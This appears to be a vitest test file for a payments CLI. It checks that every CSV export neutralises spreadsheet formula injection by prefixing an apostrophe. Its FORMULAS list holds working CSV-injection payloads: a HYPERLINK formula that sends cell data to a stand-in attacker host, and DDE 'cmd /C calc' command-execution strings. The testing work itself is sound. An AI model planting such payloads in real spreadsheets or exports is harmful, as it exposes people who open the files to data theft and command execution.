import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PAYOPS_SETTLEMENT_HEADER_LINE } from '../../src/reconcile/settlement-file/payops.js';
import { csvNumeric, csvRow, csvText } from '../../src/csv-cells.js';
import { payops, tempDir } from '../helpers/cli.js';

/**
 * Text payops writes to CSV is neutralized against spreadsheet formula injection (issue #7): a
 * cell starting with =, +, - or @ (or a tab or a carriage return) would be run by Excel, Sheets
 * or LibreOffice, e.g. =HYPERLINK("http://evil.example/?"&A1) sending the sheet away. The data is
 * kept exactly; only the CSV cell gets a leading apostrophe. Every CSV writer is listed here: a
 * new one joins CSV_WRITERS (`file`: it writes a file rather than stdout; `showsText`: the
 * formulas planted below reach its cells, behind the apostrophe; `headerOnly`: the book below
 * gives it no rows).
 *
 * The settlement file `psp settle` writes is read back by payops as it is, so its cells cannot be
 * prefixed: its writer refuses a text that starts like a formula, and its cells are payops' own
 * references and order ids, which never do.
 */
const TODAY = new Date().toISOString().slice(0, 10);
const CSV_WRITERS: readonly {
  name: string;
  args: readonly string[];
  file?: string;
  showsText: boolean;
  headerOnly?: true;
  exitCode?: number;
}[] = [
  {
    name: 'ledger export --format csv',
    args: ['ledger', 'export', '--format', 'csv'],
    showsText: true,
  },
  { name: 'ledger balance --csv', args: ['ledger', 'balance', '--csv'], showsText: false },
  { name: 'report sellers --csv', args: ['report', 'sellers', '--csv'], showsText: true },
  { name: 'reconcile report --csv', args: ['reconcile', 'report', '--csv'], showsText: true },
  {
    name: 'ledger history --csv',
    args: ['ledger', 'history', 'assets:bank:operating', '--csv'],
    showsText: true,
  },
  { name: 'report income --csv', args: ['report', 'income', '--csv'], showsText: false },
  {
    name: 'report balance-sheet --csv',
    args: ['report', 'balance-sheet', '--csv'],
    showsText: false,
  },
  {
    name: 'report daily --csv',
    args: ['report', 'daily', '--date', '2026-11-23', '--csv'],
    showsText: false,
  },
  { name: 'reconcile items --csv', args: ['reconcile', 'items', '--csv'], showsText: true },
  { name: 'runs list --csv', args: ['runs', 'list', '--csv'], showsText: false },
  { name: 'orders list --csv', args: ['orders', 'list', '--csv'], showsText: false },
  { name: 'payout list --csv', args: ['payout', 'list', '--csv'], showsText: false },
  { name: 'chargebacks list --csv', args: ['chargebacks', 'list', '--csv'], showsText: false },
  // No kept PSP answer is left unbooked in this book: only its header row is checked.
  {
    name: 'attention list --csv',
    args: ['attention', 'list', '--csv'],
    showsText: false,
    headerOnly: true,
  },
  { name: 'retry list --csv', args: ['retry', 'list', '--csv'], showsText: false },
  { name: 'release list --csv', args: ['release', 'list', '--csv'], showsText: false },
  { name: 'dlq list --csv', args: ['dlq', 'list', '--csv'], showsText: false, exitCode: 6 }, // dead letters held: exit 6
  {
    name: 'psp settle --out',
    args: [
      'psp',
      'settle',
      '--date',
      TODAY,
      '--out',
      '{dir}/day.csv',
      '--inject-discrepancies',
      '6',
    ],
    file: 'day.csv',
    showsText: false,
  },
];

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"invoice")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];
const TRIGGER = /^[=+\-@\t\r]/;
const NUMBER = /^-?[0-9]+(\.[0-9]+)?$/;

describe('CSV cells are neutralized against formula injection', () => {
  it('csvText prefixes an apostrophe to every trigger, and only to those; quotes stay RFC 4180', () => {
    for (const text of [...FORMULAS, '\tTAB', '\rCR'])
      expect(csvText(text).replace(/^"/, '')).toMatch(/^'/);
    expect(csvText('=1,2')).toBe(`"'=1,2"`);
    expect(csvText('plain, "quoted"')).toBe('"plain, ""quoted"""');
    expect(csvText('a = b')).toBe('a = b');
    expect(csvText('Café − minus sign')).toBe('Café − minus sign');
    expect(csvNumeric('-12.50')).toBe('-12.50');
    expect(() => csvNumeric('=1+2')).toThrow(TypeError);
    expect(csvRow(['a', 'b'])).toBe('a,b\n');
  });

  describe('through every CSV writer of the binary', () => {
    let dir: string;
    let cleanup: () => void;
    let db: string;
    const run = (args: readonly string[], exitCode = 0) => {
      const result = payops([...args, '--db', db]);
      expect(result.code, result.stderr).toBe(exitCode);
      return result.stdout;
    };

    beforeAll(() => {
      ({ dir, cleanup } = tempDir());
      db = path.join(dir, 'books.db');
      run(['init']);
      const postings = FORMULAS.map((formula, index) =>
        JSON.stringify({
          idempotencyKey: `${formula} #${index}`,
          description: formula,
          effectiveAt: '2026-11-23',
          metadata: { note: formula },
          entries: [
            { account: 'assets:bank:operating', currency: 'USD', debit: '10.00' },
            { account: 'equity:opening', currency: 'USD', credit: '10.00' },
          ],
        }),
      );
      fs.writeFileSync(path.join(dir, 'postings.ndjson'), `${postings.join('\n')}\n`);
      run(['ledger', 'post', '--file', path.join(dir, 'postings.ndjson')]);
      const payIns = FORMULAS.map((_, index) =>
        JSON.stringify({
          eventId: `chk_${index}`,
          type: 'pay_in',
          occurredAt: '2026-11-23T10:00:00Z',
          currency: 'USD',
          payer: { id: 'buyer_1' },
          paymentToken: 'tok_visa',
          orders: [
            {
              orderId: `ord_${index}`,
              sellerId: `seller_${index}`,
              amount: '20.00',
              platformFee: '2.00',
            },
          ],
        }),
      );
      fs.writeFileSync(path.join(dir, 'payins.ndjson'), `${payIns.join('\n')}\n`);
      run(['payin', 'run', path.join(dir, 'payins.ndjson')]);
      const payOuts = FORMULAS.map((formula, index) =>
        JSON.stringify({
          eventId: `po_${index}`,
          type: 'pay_out',
          occurredAt: '2026-11-24T10:00:00Z',
          orderId: `ord_${index}`,
          seller: {
            id: `seller_${index}`,
            name: formula,
            account: { iban: 'DE89370400440532013000' },
          },
        }),
      );
      fs.writeFileSync(path.join(dir, 'payouts.ndjson'), `${payOuts.join('\n')}\n`);
      run(['payin', 'run', path.join(dir, 'payouts.ndjson')]);
      // A settlement file whose references and batches are the formulas; each item decided with one as its note.
      const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
      const rows = FORMULAS.map(
        (formula, index) =>
          `capture,${quoted(`${formula} ch`)},ord_unknown_${index},${quoted(formula)},USD,5.00,0.10,4.90,2026-11-23T10:00:00Z,`,
      );
      fs.writeFileSync(
        path.join(dir, 'settlement.csv'),
        `${PAYOPS_SETTLEMENT_HEADER_LINE}\n${rows.join('\n')}\n`,
      );
      expect(
        payops([
          'reconcile',
          'run',
          path.join(dir, 'settlement.csv'),
          '--non-interactive',
          '--db',
          db,
        ]).code,
      ).toBe(4);
      const review = payops(['reconcile', 'review', '--json', '--db', db]);
      expect(review.code).toBe(4);
      const items = JSON.parse(review.stdout) as { itemId: string }[];
      expect(items).toHaveLength(FORMULAS.length);
      items.forEach((item, index) => {
        run(['reconcile', 'decide', item.itemId, 'note', '--note', FORMULAS[index] as string]);
      });
      // Rows for the list writers: payouts, chargebacks, a dead letter, a scheduled retry and a pay_out held behind it.
      run(['payout', 'run']);
      run(['chargebacks', 'sync', '--faults', 'dispute=1', '--seed', '1']);
      const checkout = (orderId: string) =>
        `${JSON.stringify({ eventId: `chk_${orderId}`, type: 'pay_in', occurredAt: '2026-11-23T11:00:00Z', currency: 'USD', payer: { id: 'buyer_1' }, paymentToken: 'tok_visa', orders: [{ orderId, sellerId: 'seller_0', amount: '20.00', platformFee: '2.00' }] })}\n`;
      fs.writeFileSync(path.join(dir, 'dead.ndjson'), checkout('ord_dead'));
      expect(
        payops([
          'payin',
          'run',
          path.join(dir, 'dead.ndjson'),
          '--faults',
          '5xx=1',
          '--max-attempts',
          '1',
          '--db',
          db,
        ]).code,
      ).toBe(6);
      fs.writeFileSync(path.join(dir, 'wait.ndjson'), checkout('ord_wait'));
      expect(
        payops([
          'payin',
          'run',
          path.join(dir, 'wait.ndjson'),
          '--faults',
          '5xx=1',
          '--max-attempts',
          '5',
          '--retry-base-ms',
          '3600000',
          '--retry-cap-ms',
          '3600000',
          '--db',
          db,
        ]).code,
      ).toBe(6);
      const held = {
        eventId: 'po_held',
        type: 'pay_out',
        occurredAt: '2026-11-24T11:00:00Z',
        orderId: 'ord_wait',
        seller: { id: 'seller_0', name: FORMULAS[0], account: { iban: 'DE89370400440532013000' } },
      };
      fs.writeFileSync(path.join(dir, 'held.ndjson'), `${JSON.stringify(held)}\n`);
      expect(payops(['payin', 'run', path.join(dir, 'held.ndjson'), '--db', db]).code).toBe(6);
    });
    afterAll(() => cleanup());

    it.each(CSV_WRITERS.map((writer) => [writer.name, writer] as const))(
      '%s: no cell a spreadsheet would run, every one kept',
      (_name, writer) => {
        const stdout = run(
          writer.args.map((arg) => arg.replace('{dir}', dir)),
          writer.exitCode,
        );
        const text =
          writer.file === undefined ? stdout : fs.readFileSync(path.join(dir, writer.file), 'utf8');
        const rows = parse(text, { relax_column_count: false }) as string[][];
        expect(rows.length).toBeGreaterThan(writer.headerOnly ? 0 : 1);
        for (const cell of rows.flat()) {
          if (TRIGGER.test(cell))
            expect(cell, `${writer.name}: a cell a spreadsheet would run`).toMatch(NUMBER);
        }
        // The formulas themselves are there, as text behind the apostrophe (where this writer shows them).
        const cells = new Set(rows.flat());
        const shown = FORMULAS.filter((formula) => cells.has(`'${formula}`));
        if (writer.showsText) expect(shown).toEqual(FORMULAS);
      },
    );
  });
});
